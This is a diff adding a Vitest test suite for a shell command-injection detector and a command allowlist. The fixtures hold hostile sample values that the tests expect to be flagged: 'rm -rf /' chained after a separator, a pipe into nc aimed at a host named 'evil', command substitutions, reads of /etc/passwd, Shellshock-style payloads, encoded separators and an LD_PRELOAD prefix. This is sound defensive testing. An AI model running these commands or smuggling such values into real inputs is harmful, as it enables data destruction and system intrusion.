@@ -1,0 +1,141 @@
+import { describe, expect, it } from 'vitest';
+import type { ArgumentRule } from '../api/types.js';
+import { inspectCommand, inspectShell, MAX_SHELL_VALUE_LENGTH } from './shell.js';
+
+describe('inspectShell: metacharacters that start a second command or an expansion', () => {
+  it.each([
+    ['backup.tar; rm -rf / ;', 'shell-separator', "';'"],
+    ['a && b', 'shell-separator', "'&&'"],
+    ['a || b', 'shell-separator', "'||'"],
+    ['a | nc evil 1', 'shell-separator', "'|'"],
+    ['a & b', 'shell-separator', "'&'"],
+    ['a\nid', 'shell-newline', ''],
+    ['a\r\nid', 'shell-newline', ''],
+    ['$(id)', 'shell-substitution', "'$('"],
+    ['`id`', 'shell-substitution', "'`'"],
+    ['${HOME}', 'shell-substitution', "'${'"],
+    ['$[1+1]', 'shell-substitution', "'$['"],
+    ['cat${IFS}/etc/passwd', 'shell-substitution', "'${'"],
+    ['x$IFS$9y', 'shell-variable', "'$'"],
+    ['$@', 'shell-variable', "'$@'"],
+    ['a > /etc/x', 'shell-redirection', "'>'"],
+    ['a >> log', 'shell-redirection', "'>>'"],
+    ['a < /etc/passwd', 'shell-redirection', "'<'"],
+    ['cat <<EOF', 'shell-redirection', "'<<'"],
+    ['a &> /dev/null', 'shell-redirection', "'&>'"],
+    ['diff <(ls) x', 'shell-substitution', "'<('"],
+    ['tee >(sh)', 'shell-substitution', "'>('"],
+    ['() { :;}; echo pwned', 'shell-function-definition', ''],
+    ['{cat,/etc/passwd}', 'shell-brace-expansion', ''],
+    ['{ls,-la}', 'shell-brace-expansion', ''],
+  ])('%j → %s', (value, rule, token) => {
+    const f = inspectShell(value, undefined);
+    expect(f?.rule).toBe(rule);
+    expect(f?.detector).toBe('commandInjection');
+    if (token !== '') expect(f?.message).toContain(token);
+  });
+
+  it('names the brief example precisely', () => {
+    expect(inspectShell('backup.tar; rm -rf / ;', undefined)?.message).toBe("commandInjection: command separator ';'");
+  });
+
+  it('sees through the quotes a server may wrap the value in', () => {
+    // Breaks out of "…": the separator is live when the server double-quotes the value.
+    expect(inspectShell('photo 1.jpg"; uname -a; "', undefined)?.rule).toBe('shell-separator');
+    // Breaks out of '…'.
+    expect(inspectShell("x'; id; '", undefined)?.rule).toBe('shell-separator');
+    // Quoted in the value itself, but live if the server single-quotes it.
+    expect(inspectShell("'a;b'", undefined)?.rule).toBe('shell-separator');
+    // $( ) is live inside double quotes.
+    expect(inspectShell("'$(id)'", undefined)?.rule).toBe('shell-substitution');
+  });
+
+  it('treats backslash-escaped metacharacters as inert', () => {
+    expect(inspectShell('a\\;b', undefined)).toBeUndefined();
+    expect(inspectShell('price\\$5', undefined)).toBeUndefined();
+  });
+
+  it.each([
+    ['file%3bid', 'shell-separator'],
+    ['file%0aid', 'shell-newline'],
+    ['file%0did', 'shell-newline'],
+    ['x%7cid', 'shell-separator'],
+    ['x%26id', 'shell-separator'],
+    ['x%60id%60', 'shell-substitution'],
+    ['x%24(id)', 'shell-substitution'],
+    ['x%253bid', 'shell-separator'],
+    ['src/\\nnslookup x', 'shell-newline'],
+    ['a\\x3bid', 'shell-separator'],
+    ['a\\u0026id', 'shell-separator'],
+  ])('encoded %s → %s', (value, rule) => {
+    const f = inspectShell(value, undefined);
+    expect(f?.rule).toBe(rule);
+  });
+
+  it.each([
+    'path/to/file.tar',
+    '-Va',
+    '--color=always',
+    'category:string',
+    '{{name}}',
+    '{{path/to/file}}',
+    'https://example.com?a=1',
+    'key=value',
+    '*.txt',
+    '**/*.{js,json}',
+    'path/to/{a,b}/{x,y}',
+    '~/Documents',
+    "I'm",
+    'name="example.exe"',
+    'say "Hello world"',
+    '50% off',
+    'user@host:path',
+    'nixpkgs#pkg',
+    'photo (1).jpg',
+    'C:\\Users\\new\\notes.txt',
+    'HKLM\\SOFTWARE\\Example',
+    '$',
+    'US$ 5',
+  ])('benign %j passes', (value) => {
+    expect(inspectShell(value, undefined)).toBeUndefined();
+  });
+
+  it('refuses a value longer than the kernel accepts for one argument', () => {
+    expect(inspectShell('a'.repeat(MAX_SHELL_VALUE_LENGTH + 1), undefined)?.rule).toBe('shell-too-long');
+  });
+});
+
+describe('inspectCommand: argv[0] allowlist, no operators', () => {
+  const rule: ArgumentRule = { kind: 'command', commands: ['git', 'ls', '/opt/tools/report'] };
+
+  it('allows listed programs with ordinary arguments, quotes included', () => {
+    expect(inspectCommand('git log --oneline -n 5', rule)).toBeUndefined();
+    expect(inspectCommand('ls -la "my dir"', rule)).toBeUndefined();
+    expect(inspectCommand("git commit -m 'fix; quoted'", rule)).toBeUndefined();
+    expect(inspectCommand('/usr/bin/git status', rule)).toBeUndefined();
+    expect(inspectCommand('/opt/tools/report --daily', rule)).toBeUndefined();
+    expect(inspectCommand('"git" status', rule)).toBeUndefined();
+  });
+
+  it('refuses other programs, including look-alike paths and env prefixes', () => {
+    expect(inspectCommand('rm -rf /', rule)?.rule).toBe('command-not-allowed');
+    expect(inspectCommand('/tmp/evil/git status', rule)?.rule).toBe('command-not-allowed');
+    expect(inspectCommand('LD_PRELOAD=/tmp/x.so git status', rule)?.rule).toBe('command-not-allowed');
+    expect(inspectCommand('report', rule)?.rule).toBe('command-not-allowed');
+  });
+
+  it('refuses every operator even after an allowed program', () => {
+    expect(inspectCommand('git status; rm -rf /', rule)?.rule).toBe('shell-separator');
+    expect(inspectCommand('ls | sh', rule)?.rule).toBe('shell-separator');
+    expect(inspectCommand('ls > /etc/passwd', rule)?.rule).toBe('shell-redirection');
+    expect(inspectCommand('git log "$(id)"', rule)?.rule).toBe('shell-substitution');
+    expect(inspectCommand('ls `id`', rule)?.rule).toBe('shell-substitution');
+    expect(inspectCommand('ls\nid', rule)?.rule).toBe('shell-newline');
+    expect(inspectCommand('git log "unterminated', rule)?.rule).toBe('command-unbalanced-quote');
+  });
+
+  it('without a list, any program without operators passes', () => {
+    expect(inspectCommand('make test', undefined)).toBeUndefined();
+    expect(inspectCommand('make test && rm -rf /', undefined)?.rule).toBe('shell-separator');
+  });
+});
